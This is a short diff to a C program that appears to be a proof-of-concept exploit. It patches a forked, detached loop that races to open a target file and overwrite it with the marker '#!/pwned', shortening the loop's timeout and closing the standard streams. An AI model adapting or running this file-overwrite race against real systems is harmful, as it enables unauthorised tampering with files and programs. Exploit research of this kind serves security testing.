@@ -124,9 +124,8 @@ static void overwrite(char **args)
 	if (fork() > 0)
 		return;
 	setsid();
-	puts("waiting");
-	fflush(stdout);
-	for (time_t end = time(NULL) + 20; time(NULL) < end;) {
+	close_range(0, 2, 0);
+	for (time_t end = time(NULL) + 8; time(NULL) < end;) {
 		int fd = open(path, O_WRONLY);
 		if (fd >= 0 && write(fd, "#!/pwned", 8) == 8)
 			return;
